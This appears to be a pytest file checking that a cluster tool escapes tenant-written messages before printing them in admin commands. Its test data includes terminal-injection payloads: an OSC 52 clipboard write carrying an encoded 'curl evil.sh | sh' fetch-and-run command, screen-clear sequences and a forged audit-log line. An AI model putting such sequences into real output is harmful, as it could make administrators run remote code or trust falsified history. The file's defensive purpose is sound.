"""Tenant text never drives the administrator's terminal.

A container's termination message is written by the tenant. It travels from the
agent's event to the pod record, the eviction's history and `muster describe`;
an API server's error quoting an object reaches `muster status`. Escape
sequences in it (an OSC 52 clipboard write, a screen clear) and newlines that
forge a history line are escaped where the agent builds events, where the control
plane reads them, and where the commands print.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from muster.admin.render import format_describe, format_status
from muster.agent.mapping import pod_view
from muster.core.model import PodObserved
from muster.core.printable import printable
from muster.schema import MESSAGE_BYTES, POD_OBSERVED, parse_agent_detail, pod_detail

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: set the clipboard
CLEAR = "\x1b[2J\x1b[H"  # erase the screen, cursor home
C1_CLEAR = "\x9b2J"  # the same with the one-byte CSI
FORGED = "oom\n  2026-12-01 10:00:00Z  Reactivated      reason=ApprovedByAdmin"
ATTACK = f"{CLIPBOARD}{CLEAR}{C1_CLEAR}{FORGED}"
# Anything a terminal would obey or break a line on.
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def test_control_characters_are_written_as_escapes() -> None:
    assert printable(CLIPBOARD) == "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
    assert printable(CLEAR) == "\\x1b[2J\\x1b[H"
    assert printable(C1_CLEAR) == "\\x9b2J"
    assert printable("a\nb\r\tc\x00\x7f") == "a\\nb\\r\\tc\\x00\\x7f"
    assert printable("evil\u202etxt.exe\u2028next") == "evil\\u202etxt.exe\\u2028next"
    # ordinary text, other scripts and symbols included, is left as it is
    plain = "Error: CUDA out of memory (GPU 0; 79.15 GiB) é 中文 → ✓"
    assert printable(plain) == plain
    assert printable(printable(ATTACK)) == printable(ATTACK)


def terminated_pod(message: str) -> dict[str, Any]:
    return {
        "metadata": {"name": "train-0", "namespace": "ml", "uid": "u0", "resourceVersion": "9"},
        "spec": {"nodeName": "node-a"},
        "status": {
            "phase": "Running",
            "conditions": [{"type": "Ready", "status": "False"}],
            "containerStatuses": [
                {
                    "restartCount": 3,
                    "state": {
                        "terminated": {"reason": f"Error{CLEAR}", "message": message, "exitCode": 1}
                    },
                }
            ],
        },
    }


def test_the_agent_sends_a_termination_message_escaped() -> None:
    # GIVEN a pod whose container ended with the tenant's message
    view = pod_view("ml/train", terminated_pod(ATTACK))
    assert view.message == ATTACK  # the mapping reports what Kubernetes says
    # WHEN the agent builds its event
    detail = pod_detail(
        cluster="prod",
        workload="ml/train",
        pod=view.pod,
        seq=9,
        reason=view.reason,
        message=view.message,
        terminated=view.terminated,
    )
    # THEN no field of it holds a control character, and the text still reads as written
    for field in ("reason", "message", "terminated"):
        assert not CONTROL.search(detail[field]), field
    assert detail["message"].startswith("\\x1b]52;c;")
    assert "oom\\n  2026-12-01 10:00:00Z  Reactivated" in detail["message"]


@pytest.mark.parametrize("field", ["reason", "message", "waiting", "terminated"])
def test_the_control_plane_escapes_what_any_agent_sends(field: str) -> None:
    # an event built without the agent's escaping (an older agent, or a forged one)
    raw = {
        "schemaVersion": 1,
        "cluster": "prod",
        "seq": 9,
        "workload": "ml/train",
        "pod": "train-0",
        "phase": "Running",
        "ready": False,
        field: ATTACK * 20,
    }
    _, event = parse_agent_detail(POD_OBSERVED, raw)
    assert isinstance(event, PodObserved)
    value = getattr(event, field)
    assert value and not CONTROL.search(value)
    assert len(value.encode()) <= MESSAGE_BYTES


def describe_doc(message: str) -> dict[str, Any]:
    pod = {
        "pod": "train-0",
        "node": "node-a",
        "phase": "Running",
        "reason": "Error",
        "message": message,
        "exitCode": 1,
    }
    return {
        "workload": "ml/train",
        "queue": "default",
        "phase": "Requeued",
        "reason": "PodsReadyTimeout",
        "attempt": 2,
        "requeueCount": 1,
        "readyPods": 1,
        "gangSize": 2,
        "notReadyPods": [pod],
        "history": [
            {
                "at": 1_800_000_000,
                "event": "Evicted",
                "detail": {"attempt": 1, "reason": "PodsReadyTimeout", "notReady": [pod]},
            }
        ],
    }


def test_describe_shows_tenant_text_inert_on_its_own_line() -> None:
    # GIVEN a workload whose not-ready pod (now and in its history) carries the attack
    honest = format_describe(describe_doc("oom"))
    text = format_describe(describe_doc(ATTACK))
    # THEN nothing in the output is a control character but the line ends
    assert not CONTROL.search(text.replace("\n", ""))
    # AND the forged history line is not a line: the output has as many lines as an
    # honest one, and the only Reactivated is inside the pod's message
    assert text.count("\n") == honest.count("\n")
    assert not any(line.lstrip().startswith("2026-12-01") for line in text.splitlines())
    assert "\\x1b]52;c;" in text and "\\n  2026-12-01 10:00:00Z  Reactivated" in text


def test_status_shows_a_quarantine_error_inert() -> None:
    doc = {
        "cluster": "prod",
        "phases": {
            "Admitted": [
                {
                    "workload": "ml/train",
                    "queue": "default",
                    "phase": "Admitted",
                    "attempt": 1,
                    "requeueCount": 0,
                    "readyPods": 0,
                    "gangSize": 2,
                    "reason": f"Stuck{CLEAR}",
                    "quarantined": True,
                }
            ]
        },
        "counts": {"Admitted": 1},
        "quarantined": [{"workload": "ml/train", "tries": 5, "error": f"422: {ATTACK}"}],
    }
    text = format_status(doc)
    assert not CONTROL.search(text.replace("\n", ""))
    assert "QUARANTINED: ml/train after 5 failed tries (422: \\x1b]52;c;" in text
    assert "Quarantined (Stuck\\x1b[2J\\x1b[H)" in text
    assert not any(
        "Reactivated" in line and "QUARANTINED" not in line for line in text.splitlines()
    )


def test_an_api_server_error_quoting_tenant_text_is_escaped() -> None:
    from muster.kube.adapter import _message
    from muster.kube.http import ApiException

    # GIVEN a refusal whose Status message quotes the object (an annotation's value)
    body = json.dumps({"kind": "Status", "message": f"metadata.annotations: {ATTACK}"})
    for exc in (ApiException(422, "Unprocessable Entity", body), ApiException(500, "x", ATTACK)):
        # WHEN the adapter words the error the control plane records and prints
        text = _message(exc)
        # THEN nothing a terminal obeys is left, and the forged line stays on the same line
        assert not CONTROL.search(text)
        assert "\\x1b]52;c;" in text and "\\x1b[2J" in text
        assert "oom\\n  2026-12-01 10:00:00Z  Reactivated" in text


def test_a_kubernetes_event_message_is_escaped() -> None:
    from muster.kube.events import KubeEvent, event_body

    involved = {"apiVersion": "batch/v1", "kind": "Job", "name": "train", "namespace": "ml"}
    event = KubeEvent("Warning", "PodsReadyTimeout", f"pod train-0: {ATTACK}")
    body = event_body(involved=involved, event=event, key="k", at=1_800_000_000)
    assert not CONTROL.search(body["message"])
    assert body["message"].startswith("pod train-0: \\x1b]52;c;")
    assert "\\x1b[2J\\x1b[H\\x9b2Joom\\n  2026-12-01 10:00:00Z  Reactivated" in body["message"]
